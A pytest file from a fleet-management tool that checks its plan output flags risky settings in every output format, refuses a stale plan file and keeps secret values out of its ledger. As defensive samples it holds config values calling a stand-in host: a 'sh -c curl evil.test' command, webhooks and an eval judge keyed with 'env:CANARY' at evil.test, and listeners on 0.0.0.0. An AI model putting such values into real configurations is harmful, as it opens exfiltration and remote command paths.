"""What later commands run or contact stands in the plan, and is recorded by an apply alone."""

import json
from pathlib import Path

import pytest

from fleet.history import History, settings_due, settings_to_record
from fleet.plan import Plan, SettingChange
from fleet.planning import parse_criteria, select
from fleet.resources import Server
from plans.documents.plan_file import dump, load
from plans.render import RENDERERS
from tests.attacks.conftest import call, declare

HOSTILE = {
    "hosts": "hosts: {laptop: {engine: fake, python: /evil, port: 8100, "
    "devices: {cpu0: {kind: cpu, memory: 6GiB}}}}\n",
    "address": "hosts: {laptop: {engine: fake, address: 0.0.0.0, port: 8100, "
    "devices: {cpu0: {kind: cpu, memory: 6GiB}}}}\n",
    "attached": "hosts: {far: {engine: attach, servers: {a: "
    '{url: "http://evil.test", base: tiny, max_loras: 1, max_lora_rank: 8}}}}\n',
    "listen": 'gateways: {main: {listen: "0.0.0.0:8080"}}\n',
    "secret": 'gateways: {main: {listen: "127.0.0.1:8080", secret: "env:CANARY"}}\n',
    "webhook": 'notify: {webhook: "https://evil.test/hook"}\n',
    "webhook by reference": 'notify: {webhook: "env:CANARY"}\n',
    "judge": 'evals: {judge: {url: "https://evil.test", model: j, key: "env:CANARY"}}\n',
    "command": "evals: {engine: command, command: [sh, -c, curl evil.test]}\n",
    "client's webhook": 'clients: {acme: {notify: {webhook: "https://evil.test/acme"}}}\n',
}
MARKS = {
    "hosts": "! hosts.laptop.python: /evil (new)",
    "address": "! hosts.laptop.address: 0.0.0.0 (new)",
    "attached": "! hosts.far.servers.a.url: http://evil.test (new)",
    "listen": "! gateways.main.listen: 127.0.0.1:8080 -> 0.0.0.0:8080",
    "secret": "! gateways.main.secret: env:CANARY (new)",
    "webhook": "! notify.webhook: https://evil.test/hook (new)",
    "webhook by reference": "! notify.webhook: env:CANARY (new)",
    "judge": "! evals.judge.url: https://evil.test (new)",
    "command": '! evals.command: ["sh","-c","curl evil.test"] (new)',
    "client's webhook": "! clients.acme.notify.webhook: https://evil.test/acme (new)",
}
OFFLINE = "live.json"


@pytest.fixture
def applied(project: Path, canary: str, trust_home: Path) -> Path:  # noqa: ARG001 (what they set)
    """The small fleet after its first apply, which has nothing to do but to record."""
    done = call(project, "plan", "--detailed-exitcode")
    assert done.code == 2
    assert "No changes" not in done.stdout
    apply(project, "--auto")
    return project


def apply(project: Path, what: str) -> None:
    """Apply, and save the live state with the ledger of now for `plan`."""
    done = call(project, "apply", what, "--yes")
    assert done.code == 0
    assert "Settings recorded: " in done.stderr
    assert call(project, "plan", "--save-live", str(project / OFFLINE)).code == 0


def plan(project: Path, *more: str) -> tuple[int, str]:
    done = call(project, "plan", "--live", str(project / OFFLINE), "--detailed-exitcode", *more)
    return done.code, done.stdout


def test_an_apply_records_and_then_there_are_no_changes(applied: Path) -> None:
    code, shown = plan(applied)
    assert (code, shown.splitlines()[0][:11]) == (0, "No changes.")


@pytest.mark.parametrize("attack", HOSTILE)
def test_a_hostile_setting_stands_in_every_rendering(applied: Path, attack: str) -> None:
    declare(applied, HOSTILE[attack])
    code, shown = plan(applied)
    assert code == 2
    assert MARKS[attack] in shown
    assert "No changes" not in shown
    path, _, rest = MARKS[attack][2:].partition(": ")
    after = rest.removesuffix(" (new)").rpartition("-> ")[2]
    for form in set(RENDERERS) - {"text"}:
        _, page = plan(applied, "--format", form)
        assert path in page
        assert after in page or json.dumps(after) in page or "&#34;" in page
        assert "No changes" not in page


def test_a_value_of_the_environment_stands_as_its_name(applied: Path, canary: str) -> None:
    declare(applied, 'evals: {engine: command, command: [sh, "x${env:CANARY}"]}\n')
    code, shown = plan(applied)
    assert code == 2
    assert '! evals.command: ["sh","x${env:CANARY}"] (new)' in shown
    apply(applied, "--auto")
    assert canary not in (applied / ".fleetctl" / "ledger.jsonl").read_text()
    assert plan(applied)[0] == 0


def test_a_setting_that_is_taken_back_shows_again(applied: Path) -> None:
    declare(applied, HOSTILE["webhook"])
    apply(applied, "--auto")
    assert plan(applied)[0] == 0
    declare(applied, "")
    code, shown = plan(applied)
    assert code == 2
    assert "! notify.webhook: https://evil.test/hook (gone)" in shown


def test_reconcile_records_nothing(applied: Path) -> None:
    declare(applied, HOSTILE["listen"])
    before = plan(applied)
    for _ in range(2):
        call(applied, "reconcile", "--once")
    assert call(applied, "plan", "--save-live", str(applied / OFFLINE)).code == 0
    assert plan(applied) == before


def test_a_plan_file_of_other_settings_is_refused(applied: Path, tmp_path: Path) -> None:
    file = tmp_path / "plan.json"
    declare(applied, HOSTILE["command"])
    assert call(applied, "plan", "--out", str(file)).code == 0
    declare(applied, HOSTILE["webhook"])
    refused = call(applied, "apply", str(file), "--yes")
    assert refused.code == 5
    assert "FC3040" in refused.stderr
    declare(applied, HOSTILE["command"])
    apply(applied, str(file))
    assert plan(applied)[0] == 0


DECLARED = {
    "evals.command": "x",
    "clients.acme.tier": "gold",
    "fleet": "f",
    "clients.acme.adapters.support.golden": "g",
    "clients.acme.keys.prod": "env:K",
}
SERVER = Server("s", "tiny", "h", ("g",), 1, None)
OLD = History(owned=frozenset({SERVER.address}), established={SERVER.address: SERVER})


def test_a_release_that_recorded_nothing_is_told_from_a_fleet_that_is_new() -> None:
    assert settings_due(DECLARED, OLD) == ()
    assert settings_to_record(Plan("", "f"), DECLARED, OLD).keys() == DECLARED.keys() - {
        "clients.acme.keys.prod"
    }
    new = settings_due(DECLARED, History())
    assert [setting.path for setting in new] == sorted(DECLARED.keys() - {"clients.acme.keys.prod"})
    assert settings_to_record(Plan("", "f"), DECLARED, History()) == {}


@pytest.mark.parametrize(
    ("criterion", "kept"),
    [
        ("client=acme", {"clients.acme.tier", "clients.acme.adapters.support.golden"}),
        ("adapter=acme-support", {"clients.acme.adapters.support.golden"}),
        ("client=birch", set()),
        ("server=s", set()),
    ],
)
def test_a_selection_says_which_settings_it_leaves_out(criterion: str, kept: set[str]) -> None:
    whole = Plan("", "f", settings=settings_due(DECLARED, History()))
    part = select(whole, parse_criteria([criterion]))
    assert {setting.path for setting in part.settings} == kept
    assert f"{len(whole.settings) - len(kept)} settings left out" in str(part.held[-1])
    assert part.id != whole.id


def test_many_harmless_settings_hide_no_hostile_one() -> None:
    many = tuple(
        SettingChange(f"clients.c{number:04}.tier", None, "gold") for number in range(3_000)
    )
    hostile = SettingChange("evals.command", None, '["sh"]', acts=True)
    plan = Plan("", "f", settings=(*many, hostile))
    for form, render in RENDERERS.items():
        assert "evals.command" in render(plan), form
    assert len(RENDERERS["md"](plan).encode()) < 65_000
    assert len(RENDERERS["text"](plan).splitlines()) < 20


def test_a_plan_file_keeps_settings_and_its_id_covers_them() -> None:
    setting = SettingChange("evals.command", None, "x", acts=True)
    made = Plan("", "f", settings=(setting,))
    document = json.loads(dump(made))
    assert document["decisions"]["settings"] == [
        {"acts": True, "after": "x", "before": None, "path": "evals.command"}
    ]
    assert "settings" not in json.loads(dump(Plan("", "f")))["decisions"]
    with pytest.raises(Exception, match="changed after it was made"):
        load(dump(made))
